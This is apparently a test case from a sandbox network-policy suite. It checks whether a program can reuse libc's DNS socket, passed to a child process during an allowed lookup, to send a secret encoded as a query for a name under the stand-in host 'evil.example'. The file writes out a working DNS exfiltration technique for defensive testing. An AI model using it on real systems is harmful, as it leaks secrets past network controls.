# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: a program gets libc's socket to the name server by pass_fds during a lookup of an allowed
#   name
# proof: query
# needs: resolver
# quiet: no other thread has an fd for what libc opens in a lookup
# alerts: true
# timeout: 40
import subprocess
import sys

from attack import SECRET, attempt, beside_lookups, is_asking, question

# By then the lookup may be over, and the fd one of the pipes of the start itself.
CODE = (
    "import socket, sys\n"
    "same = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, fileno=int(sys.argv[1]))\n"
    "sys.exit(same.getpeername()[1] != 53 or not same.send(bytes.fromhex(sys.argv[2])))"
)


@attempt
def ask():
    asked = question(SECRET + ".evil.example").hex()

    def start(fd):
        command = [sys.executable, "-S", "-c", CODE, str(fd), asked]
        return subprocess.run(command, pass_fds=[fd], stderr=subprocess.DEVNULL).returncode == 0

    return beside_lookups(is_asking, start)
